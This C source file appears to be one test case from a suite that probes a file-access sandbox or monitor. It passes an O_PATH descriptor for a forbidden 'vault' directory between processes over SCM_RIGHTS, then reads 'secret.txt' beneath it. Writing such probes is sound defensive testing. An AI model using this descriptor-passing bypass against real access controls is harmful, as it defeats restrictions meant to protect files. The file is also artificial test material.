/* technique: one process opens the forbidden directory with O_PATH and passes it to another, which reads beneath
 * it
 * source: reference study 4.3 #12; unix(7), SCM_RIGHTS
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <sys/socket.h>

union control {
	struct cmsghdr head;
	char room[CMSG_SPACE(sizeof(int))];
};

static int give(int socket, int fd)
{
	union control control = { .head = { CMSG_LEN(sizeof fd), SOL_SOCKET, SCM_RIGHTS } };
	struct iovec byte = { "x", 1 };
	struct msghdr message = {
		.msg_iov = &byte, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control
	};

	memcpy(CMSG_DATA(&control.head), &fd, sizeof fd);
	return sendmsg(socket, &message, 0) < 0;
}

static int take(int socket)
{
	union control control;
	char text[1];
	struct iovec byte = { text, 1 };
	struct msghdr message = {
		.msg_iov = &byte, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control
	};
	int fd = -1;

	if (recvmsg(socket, &message, 0) == 1 && message.msg_controllen)
		memcpy(&fd, CMSG_DATA(&control.head), sizeof fd);
	return fd;
}

int main(void)
{
	int pair[2];

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		return failed("socketpair");
	if (fork() == 0)
		_exit(give(pair[0], open("vault", O_PATH | O_DIRECTORY)));
	return show(openat(take(pair[1]), "secret.txt", O_RDONLY));
}
